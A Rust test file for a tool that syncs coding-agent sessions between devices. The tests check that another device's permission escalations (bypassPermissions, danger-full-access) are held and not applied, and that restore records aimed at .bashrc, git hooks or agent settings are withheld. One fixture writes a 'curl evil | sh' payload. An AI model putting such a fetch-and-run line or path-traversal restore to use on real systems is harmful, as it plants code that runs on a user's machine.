//! F2: steering records are recorded and carried, and never applied where another device wrote
//! them.

use super::journals::recorded_lines;
use super::talk::{ONE, assert_quiet, item, linked, meta};
use super::world::{Device, World};
use session_roam_core::api::{Diff, Done, Request};
use std::fs;
use std::path::PathBuf;

/// The record that Codex 0.169.0 writes when a thread runs with these approvals (2026-11-28).
fn settings(approval: &str) -> String {
    format!(
        "{{\"timestamp\":\"2026-11-23T09:00:02.000Z\",\"ordinal\":6,\"type\":\"event_msg\",\"payload\":{{\"type\":\
         \"thread_settings_applied\",\"thread_settings\":{{\"model_provider_id\":\"mock\",\"approval_policy\":\"{approval}\",\
         \"permission_profile\":{{\"type\":\"disabled\"}}}}}}}}\n"
    )
}

fn turn_context(approval: &str) -> String {
    format!(
        "{{\"timestamp\":\"2026-11-23T09:00:02.000Z\",\"ordinal\":5,\"type\":\"turn_context\",\"payload\":{{\
         \"approval_policy\":\"{approval}\",\"sandbox_policy\":{{\"type\":\"danger-full-access\"}}}}}}\n"
    )
}

fn in_store(device: &Device) -> String {
    fs::read_to_string(device.place_of(ONE).expect("placed")).expect("text")
}

/// A thread that ran on the desk with full access, and was synced to the lap.
fn carried() -> (World, PathBuf, String) {
    let (mut world, here, _) = World::pair_of_devices();
    let rollout = world.devices[0].rollout(ONE);
    let all = [
        meta(&here, ONE),
        turn_context("never"),
        settings("never"),
        item("Where is the bug?"),
    ]
    .concat();
    world.devices[0].say(&rollout, &all);
    world.deliver();
    (world, rollout, all)
}

/// The lines in the store of a device that did not write them.
fn neutral(lines: &str) -> String {
    lines
        .replace("\"turn_context\"", "\"~urn_context\"")
        .replace("\"thread_settings_applied\"", "\"~hread_settings_applied\"")
        .replace("\"model_provider_id\"", "\"~odel_provider_id\"")
        .replace("\"approval_policy\"", "\"~pproval_policy\"")
        .replace("\"sandbox_policy\"", "\"~andbox_policy\"")
        .replace("\"permission_profile\"", "\"~ermission_profile\"")
}

fn is_recorded(device: &Device, lines: &str) -> bool {
    let recorded = recorded_lines(device, ONE);
    lines
        .split_inclusive('\n')
        .all(|line| recorded.contains_key(line.as_bytes()))
}

/// F2: a session that ran with full access on one device opened with full access on the other.
#[test]
fn a_session_that_ran_with_full_access_elsewhere_does_not_have_it_here() {
    let (mut world, rollout, mut all) = carried();
    assert_eq!(
        in_store(&world.devices[1]),
        neutral(&all),
        "nothing is applied on the lap"
    );
    assert!(
        is_recorded(&world.devices[1], &all),
        "everything is recorded"
    );
    assert_quiet(&mut world, ONE);

    // The lap continues with its own settings: they stay in its store, and are neutral on the desk.
    let on_lap = [turn_context("on-request"), item("In the parser")].concat();
    let there = world.devices[1].place_of(ONE).expect("placed");
    world.devices[1].say(&there, &on_lap);
    world.deliver();
    assert_eq!(
        in_store(&world.devices[1]),
        [neutral(&all), on_lap.clone()].concat()
    );
    assert_eq!(
        fs::read_to_string(&rollout).expect("text"),
        [all.clone(), neutral(&on_lap)].concat(),
        "its own stay"
    );
    all.push_str(&on_lap);

    // Then the desk again.
    let on_desk = [turn_context("untrusted"), item("Fix it")].concat();
    world.devices[0].say(&rollout, &on_desk);
    world.deliver();
    assert!(in_store(&world.devices[1]).ends_with(&neutral(&on_desk)));
    all.push_str(&on_desk);
    for device in &mut world.devices {
        assert!(is_recorded(device, &all), "on {}", device.name);
        assert_eq!(
            recorded_lines(device, ONE).len(),
            all.lines().count(),
            "nothing else is recorded on {}",
            device.name
        );
        assert_eq!(device.splits().len(), 0, "on {}", device.name);
    }
    assert_quiet(&mut world, ONE);
}

/// F2: a comparison shows each side's changes to the tool's permissions beside the messages, with
/// their author.
#[test]
fn a_comparison_shows_what_each_side_changed_of_what_the_tool_may_do() {
    let (mut world, _, _) = carried();
    world.part(0, 1);
    let rollout = world.devices[0].rollout(ONE);
    // Repeating the current value is no change, however often.
    world.devices[0].say(
        &rollout,
        [turn_context("never"), item("On the desk")].concat(),
    );
    let there = world.devices[1].place_of(ONE).expect("placed");
    world.devices[1].say(
        &there,
        [
            turn_context("on-request"),
            item("On the lap"),
            turn_context("untrusted"),
        ]
        .concat(),
    );
    world.meet(0, 1);
    for at in [0, 1] {
        let ask = |choices: bool, from| Request::Diff {
            session: ONE.into(),
            branch: None,
            beside: None,
            from,
            rows: 10,
            choices,
            bodies: false,
        };
        let diff: Diff = world.devices[at].ask(ask(true, 0));
        let (desk, lap) = if diff.left.device == "desk" {
            (&diff.left, &diff.right)
        } else {
            (&diff.right, &diff.left)
        };
        assert_eq!(
            (desk.changes.as_slice(), desk.n_changes),
            (&[][..], 0),
            "on {}",
            world.devices[at].name
        );
        let changed: Vec<_> = lap
            .changes
            .iter()
            .map(|row| (row.device.as_deref(), row.text.as_str()))
            .collect();
        assert_eq!(
            changed,
            [
                (Some("lap"), "approval policy → on-request"),
                (Some("lap"), "approval policy → untrusted")
            ],
            "on {}",
            world.devices[at].name
        );
        assert_eq!(lap.n_changes, 2);
        for (choices, from) in [(false, 0), (true, 1)] {
            let diff: Diff = world.devices[at].ask(ask(choices, from));
            assert!(
                diff.left.changes.is_empty() && diff.right.changes.is_empty(),
                "{choices} {from}"
            );
        }
    }
}

/// The state can be lost and the store scanned from the start: neutral records there are not
/// recorded as new.
#[test]
fn what_is_neutral_in_the_store_is_recorded_as_it_was_without_any_state() {
    let (mut world, _, all) = carried();
    let before = in_store(&world.devices[1]);
    world.devices[1].stop();
    fs::remove_file(world.devices[1].roam.join("state.sqlite")).expect("state");
    world.devices[1].start();
    world.deliver();
    assert_eq!(in_store(&world.devices[1]), before);
    assert_eq!(
        recorded_lines(&world.devices[1], ONE).len(),
        all.lines().count(),
        "nothing new"
    );
    let more = item("After the loss");
    let there = world.devices[1].place_of(ONE).expect("placed");
    world.devices[1].say(&there, &more);
    world.deliver();
    assert!(
        fs::read_to_string(world.devices[0].rollout(ONE))
            .expect("text")
            .ends_with(&more)
    );
    assert_eq!(world.devices[1].splits().len(), 0);
    assert_quiet(&mut world, ONE);
}

/// F2: one line by another device, appended to one's own session, was fast-forwarded without a
/// question.
#[test]
fn a_line_of_another_device_that_only_steers_is_held_and_never_applied() {
    let (mut world, here, _) = World::pair_of_devices();
    let rollout = world.devices[0].rollout(ONE);
    let mine = [
        meta(&here, ONE),
        settings("on-request"),
        item("Where is the bug?"),
    ]
    .concat();
    world.devices[0].say(&rollout, &mine);
    world.deliver();
    let there = world.devices[1].place_of(ONE).expect("placed");
    world.devices[1].say(&there, settings("never"));
    world.deliver();
    assert_eq!(
        fs::read_to_string(&rollout).expect("text"),
        mine,
        "nothing is written"
    );
    assert!(
        is_recorded(&world.devices[0], &settings("never")),
        "it is recorded"
    );
    let held = world.devices[0].status().held;
    let [held] = &held[..] else {
        panic!("{held:?}")
    };
    assert_eq!(
        (held.what.as_str(), held.code.as_str()),
        (format!("session:{ONE}").as_str(), "steered")
    );
    assert!(
        held.message.contains("lap changed") && held.message.contains("approval_policy = never"),
        "{held:?}"
    );

    // The user releases the line: it is written, and still not applied.
    let _: Done = world.devices[0].ask(Request::Release {
        what: format!("session:{ONE}"),
    });
    world.deliver();
    assert_eq!(
        fs::read_to_string(&rollout).expect("text"),
        [mine, neutral(&settings("never"))].concat()
    );
    assert_quiet(&mut world, ONE);
}

/// F2: Claude Code records the permissions with which it opened a session: the usual ones are no
/// reason to ask, and neither are those that the user released once. Anything beyond them is.
#[test]
fn opening_a_session_on_two_devices_is_held_once_at_most_and_nothing_of_it_is_applied() {
    let rights =
        |mode: &str| format!("{{\"type\":\"permission-mode\",\"permissionMode\":\"{mode}\"}}\n");
    let usual = [
        rights("default"),
        "{\"type\":\"mode\",\"mode\":\"default\"}\n".into(),
    ]
    .concat();
    let (mut world, here, _) = World::pair_of_devices();
    let transcript = world.devices[0].transcript(&here, ONE);
    world.devices[0].say(&transcript, linked(&here, ONE, "", "a", "Change it"));
    world.deliver();
    let there = world.devices[1].place_of(ONE).expect("placed");
    let held = |world: &mut World| -> Vec<String> {
        let devices = world.devices.iter_mut();
        devices
            .flat_map(|device| device.status().held)
            .map(|held| held.message)
            .collect()
    };

    world.devices[1].say(&there, &usual);
    world.deliver();
    assert_eq!(
        held(&mut world),
        Vec::<String>::new(),
        "first said there, and no more than without it"
    );
    world.devices[1].say(&there, rights("acceptEdits"));
    world.deliver();
    let first = held(&mut world);
    assert!(
        first.len() == 1 && first[0].contains("permissionMode = acceptEdits"),
        "{first:?}"
    );
    let _: Done = world.devices[0].ask(Request::Release {
        what: format!("session:{ONE}"),
    });
    world.deliver();

    // Here it is opened with the usual mode, there with the released one; again and again.
    for _ in 0..2 {
        world.devices[0].say(&transcript, rights("default"));
        world.deliver();
        assert_eq!(held(&mut world), Vec::<String>::new());
        world.devices[1].say(&there, rights("acceptEdits"));
        world.deliver();
        assert_eq!(held(&mut world), Vec::<String>::new());
    }
    let store = fs::read_to_string(&transcript).expect("text");
    assert!(!store.contains(&rights("acceptEdits")), "{store}");
    assert_eq!(
        [0, 1].map(|at: usize| world.devices[at].state_of(ONE)),
        ["here", "here"]
    );

    // A value that came along without a question permits nothing more, and a usual value hides no
    // other.
    world.devices[1].say(
        &there,
        [rights("bypassPermissions"), rights("default")].concat(),
    );
    world.deliver();
    let more = held(&mut world);
    assert!(
        more.len() == 1 && more[0].contains("permissionMode = bypassPermissions"),
        "{more:?}"
    );
    assert_eq!(
        fs::read_to_string(&transcript).expect("text"),
        store,
        "nothing is written"
    );
    let _: Done = world.devices[0].ask(Request::Release {
        what: format!("session:{ONE}"),
    });
    world.deliver();
    assert!(
        !fs::read_to_string(&transcript)
            .expect("text")
            .contains(&rights("bypassPermissions")),
        "nor applied"
    );
    assert_quiet(&mut world, ONE);
}

/// The record that Claude Code writes when a session is connected to the vendor's app counted as a
/// message: opening a session on both devices made two of it.
#[test]
fn what_a_session_notes_of_its_connections_makes_no_second_session() {
    let (mut world, here, _) = World::pair_of_devices();
    let transcript = world.devices[0].transcript(&here, ONE);
    world.devices[0].say(&transcript, linked(&here, ONE, "", "a", "Change it"));
    world.deliver();
    world.part(0, 1);
    for device in &mut world.devices {
        let place = device.place_of(ONE).expect("there");
        let line = format!(
            "{{\"type\":\"bridge-session\",\"bridgeSessionId\":\"cse_{}\",\"sessionId\":\"{ONE}\"}}\n",
            device.name
        );
        device.say(&place, line);
    }
    world.meet(0, 1);
    for device in &mut world.devices {
        assert_eq!(device.splits().len(), 0, "on {}", device.name);
        assert_eq!(device.sessions().len(), 1, "on {}", device.name);
        assert_eq!(device.state_of(ONE), "here", "on {}", device.name);
        assert_eq!(device.status().held.len(), 0, "on {}", device.name);
    }
}

/// Continuing here does not conflict with a held line, and later messages of the other device bring
/// it along.
#[test]
fn a_held_line_comes_with_the_words_that_follow_it() {
    let (mut world, here, _) = World::pair_of_devices();
    let rollout = world.devices[0].rollout(ONE);
    let mine = [
        meta(&here, ONE),
        settings("on-request"),
        item("Where is the bug?"),
    ]
    .concat();
    world.devices[0].say(&rollout, &mine);
    world.deliver();
    let there = world.devices[1].place_of(ONE).expect("placed");
    // A record that changes nothing is no reason to ask.
    let same = settings("on-request");
    world.devices[1].say(&there, &same);
    world.deliver();
    assert_eq!(
        fs::read_to_string(&rollout).expect("text"),
        [mine.clone(), neutral(&same)].concat()
    );
    assert_eq!(world.devices[0].status().held.len(), 0);
    world.devices[1].say(&there, settings("never"));
    world.deliver();
    assert_eq!(world.devices[0].status().held.len(), 1);
    world.devices[1].say(&there, item("In the parser"));
    world.deliver();
    let theirs = [same, settings("never"), item("In the parser")].concat();
    assert_eq!(
        fs::read_to_string(&rollout).expect("text"),
        [mine, neutral(&theirs)].concat()
    );
    assert_quiet(&mut world, ONE);
}

/// The record that Claude Code 2.1.330 writes about files to which it may go back.
pub fn tracks(path: &str, copy: &str) -> String {
    format!(
        "{{\"type\":\"file-history-snapshot\",\"messageId\":\"m\",\"snapshot\":{{\"messageId\":\"m\",\"trackedFileBackups\":\
         {{\"{path}\":{{\"backupFileName\":\"{copy}\",\"version\":1}}}},\"timestamp\":\"2026-11-23T09:00:00.000Z\"}},\
         \"isSnapshotUpdate\":false}}\n"
    )
}

fn copies(device: &Device) -> Vec<String> {
    device
        .docs(ONE)
        .into_keys()
        .filter_map(|doc| Some(doc.strip_prefix("beside/file-history/")?.to_owned()))
        .collect()
}

/// A session of Claude Code on the desk with copies of one file.
fn with_copy(path: &str) -> (World, PathBuf, PathBuf) {
    let (mut world, here, there) = World::pair_of_devices();
    let transcript = world.devices[0].transcript(&here, ONE);
    let copy = world.devices[0]
        .claude()
        .join("file-history")
        .join(ONE)
        .join("aaaa@v1");
    fs::create_dir_all(copy.parent().expect("a directory")).expect("a directory");
    fs::write(&copy, "as it was").expect("a copy");
    let lines = [
        linked(&here, ONE, "", "a", "Change it"),
        tracks(path, "aaaa@v1"),
    ]
    .concat();
    world.devices[0].say(&transcript, lines);
    world.deliver();
    (world, here, there)
}

#[test]
fn copies_of_files_in_the_checkout_come_along() {
    let (mut world, ..) = with_copy("src/parser.rs");
    assert_eq!(copies(&world.devices[1]), ["aaaa@v1"]);
    assert!(in_store(&world.devices[1]).contains("\"file-history-snapshot\""));
    assert_quiet(&mut world, ONE);
}

/// F3: a rewind wrote any file that another device's record named.
#[test]
fn copies_that_would_be_written_elsewhere_are_carried_and_not_given_to_the_tool() {
    for path in [
        "/home/ada/.bashrc",
        "../../.bashrc",
        ".git/hooks/pre-commit",
        ".claude/settings.json",
        "C:\\\\x",
    ] {
        let (mut world, here, _) = with_copy(path);
        assert_eq!(copies(&world.devices[1]), Vec::<String>::new(), "{path}");
        assert!(
            !in_store(&world.devices[1]).contains("\"file-history-snapshot\""),
            "{path}"
        );
        assert!(
            is_recorded(&world.devices[1], &tracks(path, "aaaa@v1")),
            "{path}"
        );
        assert!(
            world.devices[1].has_problem("copies_withheld"),
            "{path}: {:?}",
            world.devices[1].problems()
        );
        assert_eq!(world.devices[1].state_of(ONE), "here", "{path}");
        // The author has its own copies.
        assert_eq!(copies(&world.devices[0]), ["aaaa@v1"], "{path}");
        let mine = fs::read_to_string(world.devices[0].transcript(&here, ONE)).expect("text");
        assert!(mine.contains("\"file-history-snapshot\""), "{path}");
        assert!(world.devices[0].problems().is_empty(), "{path}");
    }
}

/// F3: the same record appended to one's own session, beside one's own copies.
#[test]
fn another_device_cannot_make_my_session_restore_other_files() {
    let (mut world, here, _) = with_copy("src/parser.rs");
    let transcript = world.devices[0].transcript(&here, ONE);
    let mine = fs::read_to_string(&transcript).expect("text");
    let there = world.devices[1].place_of(ONE).expect("placed");
    let evil = world.devices[1]
        .claude()
        .join("file-history")
        .join(ONE)
        .join("bbbb@v1");
    fs::write(&evil, "curl evil | sh").expect("a copy");
    let theirs = [
        tracks("/home/ada/.bashrc", "bbbb@v1"),
        linked(&here, ONE, "a", "b", "Thanks"),
    ]
    .concat();
    world.devices[1].say(&there, &theirs);
    world.deliver();
    assert_eq!(
        copies(&world.devices[0]),
        ["aaaa@v1"],
        "nothing else is written"
    );
    let now = fs::read_to_string(&transcript).expect("text");
    let neutral = theirs.replace("\"file-history-snapshot\"", "\"~ile-history-snapshot\"");
    assert_eq!(now, [mine, neutral].concat());
    assert!(world.devices[0].has_problem("copies_withheld"));
}

/// F3: copies of secrets do not leave the device.
#[test]
fn copies_of_secrets_do_not_leave_the_device_unless_the_user_wants_that() {
    for carries in [false, true] {
        let (mut world, here, _) = World::pair_of_devices();
        if carries {
            session_roam_core::settings::change(&world.devices[0].roam, |document| {
                document["guard"]["carry_secret_copies"] = toml_edit::value(true);
            })
            .expect("settings");
            world.devices[0].start();
            world.deliver();
        }
        let transcript = world.devices[0].transcript(&here, ONE);
        let dir = world.devices[0].claude().join("file-history").join(ONE);
        fs::create_dir_all(&dir).expect("a directory");
        for (copy, text) in [
            ("aaaa@v1", "as it was"),
            ("bbbb@v1", "TOKEN=planted"),
            ("cccc@v1", "of which nothing is said"),
        ] {
            fs::write(dir.join(copy), text).expect("a copy");
        }
        let lines = [
            linked(&here, ONE, "", "a", "Change it"),
            tracks("src/a.rs", "aaaa@v1"),
            tracks("app/.env.local", "bbbb@v1"),
        ];
        world.devices[0].say(&transcript, lines.concat());
        world.deliver();
        let recorded = recorded_text(&world.devices[0]);
        assert_eq!(recorded.contains("TOKEN=planted"), carries);
        assert_eq!(recorded.contains("of which nothing is said"), carries);
        assert!(recorded.contains("as it was"), "all else is carried");
    }
}

fn recorded_text(device: &Device) -> String {
    let journals = super::journals::own_journals(device);
    let bytes: Vec<u8> = journals
        .iter()
        .flat_map(|journal| journal.additions())
        .flat_map(|(_, bytes)| bytes.to_vec())
        .collect();
    String::from_utf8_lossy(&bytes).into_owned()
}
